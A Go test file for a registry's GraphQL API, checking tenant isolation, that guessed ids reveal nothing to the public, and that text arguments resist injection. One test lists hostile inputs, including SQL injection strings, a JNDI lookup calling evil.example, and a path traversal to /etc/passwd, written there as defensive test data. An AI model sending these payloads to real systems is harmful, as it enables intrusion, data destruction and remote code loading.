package gql_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/vektah/gqlparser/v2/ast"

	"github.com/karna-registry/karna/graph/gql"
	"github.com/karna-registry/karna/graph/gql/gqltest"
	"github.com/karna-registry/karna/internal/access"
	"github.com/karna-registry/karna/internal/testkit"
	"github.com/karna-registry/karna/model"
)

// everything may be read and changed by.
var everything = access.Rights{
	Role: access.Admin, Scopes: []access.Scope{access.RestrictedRead, access.ProtectedRead, access.IdentifierLookup, access.AuditRead}, Actor: "test", Purpose: "test",
}

// argumentOf is one argument of a field, in a query in which a variable stands
// for it.
type argumentOf struct {
	name  string // "Query.person(id)"
	query string // with $x
}

// argumentsOf are the arguments of a type of all fields of the root, and of those
// that are reached below them, given one at a time; within objects and lists too.
func argumentsOf(schema *ast.Schema, typeName string) (out []argumentOf) {
	reaching := gql.Reaching(schema)
	for _, def := range schema.Types {
		if def.Kind != ast.Object || strings.HasPrefix(def.Name, "__") {
			continue
		}
		for _, f := range def.Fields {
			way := reaching[def.Name+"."+f.Name]
			for _, a := range f.Arguments {
				if way == "" || strings.HasPrefix(way, "subscription") {
					continue
				}
				for _, v := range valuesWith(schema, f.Name, a.Type, typeName) {
					if q, ok := with(schema, way, f, a, typeName, v.query); ok {
						out = append(out, argumentOf{def.Name + "." + f.Name + "(" + a.Name + v.name + ")", q})
					}
				}
			}
		}
	}
	slices.SortFunc(out, func(a, b argumentOf) int { return strings.Compare(a.name, b.name) })
	return out
}

// valuesWith are the values of a type, each with $x in one of its places, and the
// names of those. A list of values of properties is asked of one that there is.
func valuesWith(schema *ast.Schema, field string, of *ast.Type, typeName string) (out []argumentOf) {
	if of.Elem != nil {
		for _, v := range valuesWith(schema, field, of.Elem, typeName) {
			out = append(out, argumentOf{v.name, "[" + v.query + "]"})
		}
		return out
	}
	if of.NamedType == typeName {
		return []argumentOf{{"", "$x"}}
	}
	d := schema.Types[of.NamedType]
	if d.Kind != ast.InputObject {
		return nil
	}
	for _, f := range d.Fields {
		for _, v := range valuesWith(schema, field, f.Type, typeName) {
			fields := []string{f.Name + ": " + v.query}
			for _, other := range d.Fields {
				switch {
				case other == f:
				case d.Name == "ValueInput" && other.Name == "property":
					fields = append(fields, fmt.Sprintf("property: %q", propertyIn(field, f.Name)))
				case other.Type.NonNull && other.DefaultValue == nil:
					fields = append(fields, other.Name+": "+gql.SomeValue(schema, other.Type))
				}
			}
			out = append(out, argumentOf{"." + f.Name + v.name, "{" + strings.Join(fields, ", ") + "}"})
		}
	}
	return out
}

// propertyIn is a property that a list can be asked for by a link, or by a value.
func propertyIn(list, by string) string {
	if by == "to" {
		return map[string]string{"organisations": "parent", "geographies": "parent", "roles": "organisation", "services": "provider"}[list]
	}
	return map[string]string{"persons": "familyName", "roles": "title"}[list] + map[string]string{"organisations": "name", "geographies": "name", "services": "name"}[list]
}

var anyArguments = regexp.MustCompile(`\([^()]*\)`)

// with gives an argument of the last field on a way a value that has $x in it.
func with(schema *ast.Schema, way string, f *ast.FieldDefinition, a *ast.ArgumentDefinition, kind, value string) (string, bool) {
	at := strings.LastIndex(way, f.Name)
	if at < 0 {
		return "", false
	}
	before, after := way[:at+len(f.Name)], way[at+len(f.Name):]
	given := ""
	if strings.HasPrefix(after, "(") {
		loc := anyArguments.FindStringIndex(after)
		given, after = after[loc[0]+1:loc[1]-1], after[loc[1]:]
	}
	var kept []string
	for _, one := range strings.Split(given, ", ") {
		if one != "" && !strings.HasPrefix(one, a.Name+":") {
			kept = append(kept, one)
		}
	}
	kept = append(kept, a.Name+": "+value)
	text := before + "(" + strings.Join(kept, ", ") + ")" + after
	kindOf, rest, _ := strings.Cut(text, " ")
	// A whole answer tells more than __typename.
	rest = strings.Replace(rest, "{ __typename }", "{ __typename "+some(schema, f.Type.Name())+" }", 1)
	return fmt.Sprintf("%s($x: %s!) %s", kindOf, kind, rest), true
}

// some are the plain fields of a type.
func some(schema *ast.Schema, name string) string {
	var out []string
	for _, f := range schema.Types[name].Fields {
		if len(f.Arguments) == 0 && schema.Types[f.Type.Name()].IsLeafType() && !strings.HasPrefix(f.Name, "__") {
			out = append(out, f.Name)
		}
	}
	return strings.Join(out, " ")
}

// whatIs asks what a thing in a list is, by its ids.
func whatIs(list string) string {
	switch list {
	case "conflicts":
		return "records { id }"
	case "quarantine":
		return "place"
	case "danglingReferences":
		return "target from { id }"
	}
	return "id"
}

// leadsNowhere are the filters by an id that find nothing in the town, or that
// there are not for a kind.
var leadsNowhere = map[string]bool{
	"Query.concepts(filter.under.organisation)": true, "Query.concepts(filter.values.to)": true, "Query.concepts(filter.within)": true,
	"Query.geographies(filter.under.organisation)": true, "Query.persons(filter.values.to)": true, "Query.roles(filter.within)": true,
}

// nobody has this id.
const nobody = "01900000-0000-7000-8000-0000000000ff"

// TestAnIDOfAnotherTenantIsTheIDOfNothing gives every argument that is an id, of
// every field, every id of another tenant of the same store, and the ids and
// cursors of it in every text: the answer is that to an id that nobody has.
func TestAnIDOfAnotherTenantIsTheIDOfNothing(t *testing.T) {
	gqltest.Neighbours(t, func(t *testing.T, one, other *gqltest.Town) {
		x := gql.New(gql.Options{Stewardship: one.Registry, Clock: one.Clock.Now, Log: testkit.Log(t)})
		ask := func(town *gqltest.Town, q string, id string) string {
			t.Helper()
			text, err := json.Marshal(x.Execute(t.Context(), town.View(everything), gql.Request{Query: q, Variables: map[string]any{"x": id}}))
			if err != nil {
				t.Fatal(err)
			}
			if id == "" {
				return string(text)
			}
			return strings.ReplaceAll(string(text), id, "«id»")
		}
		idsOf := func(town *gqltest.Town) (ids []string) {
			for h, err := range town.Store.ScanHeads(t.Context(), "hr", "") {
				if err != nil {
					t.Fatal(err)
				}
				ids = append(ids, h.ID.String())
			}
			return ids
		}
		mine, foreign := idsOf(one), idsOf(other)
		if len(foreign) < 10 {
			t.Fatalf("%d ids of the neighbour", len(foreign))
		}
		arguments := argumentsOf(gql.Schema(), "ID")
		if len(arguments) < 20 {
			t.Fatalf("%d arguments are ids: %v", len(arguments), arguments)
		}
		for _, a := range arguments {
			want := ask(one, a.query, nobody)
			if strings.Contains(want, gql.CodeInternal) {
				t.Errorf("%s fails: %s", a.name, want)
			}
			for i, id := range foreign {
				if i%4 != 0 && i > 4 {
					continue // each kind is among those that are left
				}
				if got := ask(one, a.query, id); got != want {
					t.Errorf("%s: an id of another tenant is answered with\n%s\nwant what nobody's is:\n%s", a.name, got, want)
				}
			}
		}
		// The test tells answers apart: some id of one's own is answered otherwise.
		for _, a := range arguments {
			if strings.Contains(a.name, "(filter") && !leadsNowhere[a.name] && !slices.ContainsFunc(mine, func(id string) bool { return ask(one, a.query, id) != ask(one, a.query, nobody) }) {
				t.Errorf("%s: one's own ids are answered like nobody's: %s", a.name, a.query)
			}
		}
		if own := ask(one, `query($x: ID!) { node(id: $x) { id } }`, one.IDs(t, "«hr/person/anna»")); own == ask(one, `query($x: ID!) { node(id: $x) { id } }`, nobody) {
			t.Error("one's own id is answered like nobody's")
		}
		revision, err := other.Store.Revision(t.Context())
		if err != nil || revision != 3 {
			t.Errorf("the neighbour is at revision %d: %v", revision, err)
		}
		for _, a := range argumentsOf(gql.Schema(), "String") {
			if got := ask(one, a.query, foreign[0]); strings.Contains(got, gql.CodeInternal) {
				t.Errorf("%s: %s", a.name, got)
			}
		}
		// A place in another's list leads to nothing of it.
		names := map[string]bool{}
		for _, id := range foreign {
			names[id] = true
		}
		for _, list := range []string{"persons", "roles", "organisations", "geographies", "services", "concepts", "changes", "conflicts", "quarantine", "danglingReferences"} {
			page := func(town *gqltest.Town, first int, after string) (cursor, text string) {
				t.Helper()
				q := fmt.Sprintf(`query($x: String) { page: %s(after: $x, first: %d) { nodes { %s } pageInfo { endCursor } } }`, list, first, whatIs(list))
				text = ask(town, q, after)
				var got struct {
					Data struct {
						Page struct{ PageInfo struct{ EndCursor string } }
					}
				}
				if err := json.Unmarshal([]byte(text), &got); err != nil {
					t.Fatal(err)
				}
				return got.Data.Page.PageInfo.EndCursor, text
			}
			cursor, text := page(other, 1, "")
			if cursor == "" && list != "conflicts" && list != "quarantine" { // of these it has none
				t.Errorf("%s of the neighbour have no cursor: %s", list, text)
			}
			_, got := page(one, 50, cursor)
			if strings.Contains(got, gql.CodeInternal) {
				t.Errorf("%s after another's cursor: %s", list, got)
			}
			for id := range names {
				if strings.Contains(got, id) {
					t.Errorf("%s after another's cursor has %s", list, id)
				}
			}
		}
	})
}

// TestAGuessedIDTellsThePublicNothing: what the public may not see is answered
// like what is not there, by every argument that is an id.
func TestAGuessedIDTellsThePublicNothing(t *testing.T) {
	town := gqltest.New(t)
	x := gql.New(gql.Options{Stewardship: town.Registry, Clock: town.Clock.Now, Log: testkit.Log(t)})
	ask := func(q, id string) string {
		text, err := json.Marshal(x.Execute(t.Context(), town.View(access.Rights{}), gql.Request{Query: q, Variables: map[string]any{"x": id}}))
		if err != nil {
			t.Fatal(err)
		}
		return strings.ReplaceAll(string(text), id, "«id»")
	}
	for _, local := range []string{"anna", "bo", "hidden"} {
		id := town.ID(t, "hr", model.Person, local).String()
		for _, a := range argumentsOf(gql.Schema(), "ID") {
			if got, want := ask(a.query, id), ask(a.query, nobody); got != want {
				t.Errorf("%s of %s is answered with\n%s\nwant\n%s", a.name, local, got, want)
			}
		}
	}
}

// TestNoTextIsACommand gives every argument that is a text what would be one to a
// database, a path or a pattern: nothing fails within, and nothing is changed.
func TestNoTextIsACommand(t *testing.T) {
	gqltest.Engines(t, func(t *testing.T, town *gqltest.Town) {
		x := gql.New(gql.Options{Stewardship: town.Registry, Clock: town.Clock.Now, Log: testkit.Log(t)})
		arguments := argumentsOf(gql.Schema(), "String")
		if len(arguments) < 40 {
			t.Fatalf("%d arguments are texts", len(arguments))
		}
		hostile := []string{
			`'; DROP TABLE golden; --`, `" OR ""="`, `') UNION SELECT body FROM audit --`, `$1`, `\'; SELECT pg_sleep(9); --`, "a\x00b", `%`, `_%_`, `\`, `*`,
			"\u202e\u2066\ufeff", "\ud7ff\ue000\U0010ffff", strings.Repeat("å", 20_000), strings.Repeat("a ", 5_000), `{{.}}`, `${jndi:ldap://evil.example/a}`, `../../etc/passwd`, "«»",
		}
		for _, a := range arguments {
			for _, h := range hostile {
				resp := x.Execute(t.Context(), town.View(everything), gql.Request{Query: a.query, Variables: map[string]any{"x": h}})
				for _, e := range resp.Errors {
					if e.Extensions["code"] == gql.CodeInternal {
						t.Errorf("%s = %.40q fails: %v", a.name, h, e)
					}
				}
			}
		}
		revision, err := town.Store.Revision(t.Context())
		if err != nil || revision != 3 {
			t.Errorf("the registry is at revision %d: %v", revision, err)
		}
		n := 0
		for _, err := range town.Store.ScanHeads(t.Context(), "hr", "") {
			if err != nil {
				t.Fatal(err)
			}
			n++
		}
		if n != len(strings.Fields("county municipality kommun school library anna bo hidden anna-employment bo-employment hidden-employment teacher-post lost")) {
			t.Errorf("%d records are left", n)
		}
	})
}
